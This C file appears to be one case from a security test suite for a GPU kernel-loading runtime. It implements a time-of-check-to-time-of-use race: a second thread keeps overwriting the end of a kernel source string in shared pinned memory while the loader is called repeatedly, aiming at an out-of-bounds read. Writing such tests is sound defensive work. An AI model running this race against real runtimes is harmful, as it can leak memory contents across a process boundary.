/* Tries to change a text between the check of its end and its use: the source of a kernel lies in pinned memory, which
 * the device process has at the same address, and a second thread overwrites its end. Gains a read behind the text. */
#include <pthread.h>
#include <string.h>

static char *source;
static volatile int over;
enum { LENGTH = 1 << 16 };

static void *flip(void *user)
{
    while (!over) {
        memset(source + 100, 0, LENGTH - 100);
        memset(source + 100, '/', LENGTH - 100);
    }
    return user;
}

static lab_status attack(attack_honest *honest, void *arguments, size_t bytes, float *out, const float *in, int count)
{
    pthread_t thread;
    lab_module *module;
    LAB_TRY(lab_host_alloc((void **)&source, LENGTH));
    memset(source, ' ', LENGTH);
    strcpy(source, "extern \"C\" __global__ void k(int *x) { *x = 1; } //");
    memset(source + strlen(source), '/', LENGTH - strlen(source) - 1);
    if (pthread_create(&thread, NULL, flip, NULL)) return LAB_ERROR_UNKNOWN;
    for (int i = 0; i < 20; i++) lab_module_load_source(&module, source, source);
    over = 1;
    pthread_join(thread, NULL);
    return LAB_SUCCESS;
}
